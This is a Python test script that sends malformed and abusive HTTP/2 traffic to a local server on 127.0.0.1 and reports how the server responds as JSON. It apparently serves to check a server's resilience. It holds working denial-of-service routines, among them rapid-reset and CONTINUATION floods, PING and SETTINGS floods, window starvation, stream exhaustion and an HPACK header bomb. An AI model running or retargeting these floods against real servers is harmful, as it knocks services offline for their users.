"""Speaks HTTP/2 as nobody should: python3 hostile_http2.py PORT ATTACK; prints what the server did as JSON.

Frames are made one by one (hyperframe, hpack), so that they may break every rule. Reading goes on meanwhile in a
thread of its own, except where not reading is the attack.
"""

import json
import socket
import ssl
import sys
import threading
import time

from hpack import Encoder
from hyperframe import frame as frames

port, attack = int(sys.argv[1]), sys.argv[2]
SECONDS = 15

context = ssl.create_default_context()
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE
context.set_alpn_protocols(["h2"])
line = context.wrap_socket(socket.create_connection(("127.0.0.1", port), timeout=SECONDS), server_hostname="video.example")
assert line.selected_alpn_protocol() == "h2"

seen = {"closed": False, "goaway": None, "resets": 0, "answers": 0, "sent": 0}
over = threading.Event()
# OpenSSL does not let two threads at one connection at once.
turn = threading.Lock()
line.setblocking(False)


def read_frames():
    buffer = b""
    while not over.is_set():
        try:
            with turn:
                piece = line.recv(1 << 16)
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            time.sleep(0.001)
            continue
        except OSError:
            piece = b""
        if not piece:
            seen["closed"] = True
            over.set()
            return
        buffer += piece
        while len(buffer) >= 9:
            frame, length = frames.Frame.parse_frame_header(memoryview(buffer[:9]))
            if len(buffer) < 9 + length:
                break
            frame.parse_body(memoryview(buffer[9 : 9 + length]))
            buffer = buffer[9 + length :]
            if isinstance(frame, frames.GoAwayFrame):
                seen["goaway"] = frame.error_code
            elif isinstance(frame, frames.RstStreamFrame):
                seen["resets"] += 1
            elif isinstance(frame, frames.HeadersFrame):
                seen["answers"] += 1


def send(*parts):
    """Everything, unless the server has closed or time is over."""
    data = memoryview(b"".join(part if isinstance(part, bytes) else part.serialize() for part in parts))
    while data and not over.is_set():
        if time.monotonic() > deadline:
            over.set()
        try:
            with turn:
                data = data[line.send(data) :]
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            time.sleep(0.001)
        except OSError:
            seen["closed"] = True
            over.set()
    seen["sent"] += 1
    return not over.is_set()


def request(stream, method="GET", path="/", flags=("END_HEADERS", "END_STREAM"), more=()):
    headers = [(":method", method), (":scheme", "https"), (":authority", "video.example"), (":path", path), *more]
    frame = frames.HeadersFrame(stream, Encoder().encode(headers))
    for flag in flags:
        frame.flags.add(flag)
    return frame


def rapid_reset():
    stream = 1
    while send(request(stream), frames.RstStreamFrame(stream, 8)) and stream < 100_000:
        stream += 2


def continuation_flood():
    head = request(1, flags=("END_STREAM",))
    send(head)
    while send(*[frames.ContinuationFrame(1, Encoder().encode([(f"x-{n}", "a" * 200)])) for n in range(50)]):
        if seen["sent"] > 20_000:
            return


def empty_continuations():
    send(request(1, flags=("END_STREAM",)))
    while send(*[frames.ContinuationFrame(1, b"") for _ in range(500)]) and seen["sent"] < 2_000:
        pass


def settings_flood():
    while send(*[frames.SettingsFrame(0, {4: 65535}) for _ in range(500)]) and seen["sent"] < 200:
        pass


def ping_flood():
    while send(*[frames.PingFrame(0, b"cocuyo--") for _ in range(500)]) and seen["sent"] < 200:
        pass


def ping_flood_unread():
    ping_flood()


def empty_data():
    send(request(1, "POST", "/api/v1/session", ("END_HEADERS",), [("content-type", "application/json")]))
    while send(*[frames.DataFrame(1, b"") for _ in range(500)]) and seen["sent"] < 2_000:
        pass


def one_byte_windows():
    send(*[request(stream) for stream in range(1, 200, 2)])
    while send(*[frames.WindowUpdateFrame(stream, 1) for stream in range(1, 200, 2)]) and seen["sent"] < 500:
        pass


def closed_windows():
    send(*[request(stream) for stream in range(1, 200, 2)])
    over.wait(SECONDS)


def large_header_list():
    send(request(1, flags=("END_STREAM",)))
    encoder = Encoder()
    for n in range(200):
        send(frames.ContinuationFrame(1, encoder.encode([(f"x-{n}", "b" * 5000)])))
    last = frames.ContinuationFrame(1, b"")
    last.flags.add("END_HEADERS")
    send(last)
    over.wait(2)


def header_bomb():
    # One entry of the table, named over and over: a few kilobytes that stand for megabytes.
    encoder = Encoder()
    block = encoder.encode([(":method", "GET"), (":scheme", "https"), (":authority", "video.example"), (":path", "/")])
    entry = encoder.encode([("x-bomb", "c" * 3000)])
    again = encoder.encode([("x-bomb", "c" * 3000)])
    frame = frames.HeadersFrame(1, block + entry + again * 4000)
    frame.flags.add("END_HEADERS")
    frame.flags.add("END_STREAM")
    send(frame)
    over.wait(2)


def too_many_streams():
    stream = 1
    # Each waits for a body that never comes.
    while stream < 20_000 and send(request(stream, "POST", "/api/v1/session", ("END_HEADERS",))):
        stream += 2


def rubbish():
    send(bytes(range(256)) * 100)
    over.wait(2)


first_settings = {"one_byte_windows": {4: 1}, "closed_windows": {4: 0}}.get(attack, {})
deadline = time.monotonic() + SECONDS
reader = None
if attack != "ping_flood_unread":
    reader = threading.Thread(target=read_frames)
    reader.start()
send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", frames.SettingsFrame(0, first_settings))
globals()[attack]()
if reader:
    # What the server has still to say about it.
    until = time.monotonic() + 2
    while not over.is_set() and time.monotonic() < until:
        time.sleep(0.01)
    over.set()
    reader.join()
print(json.dumps(seen))
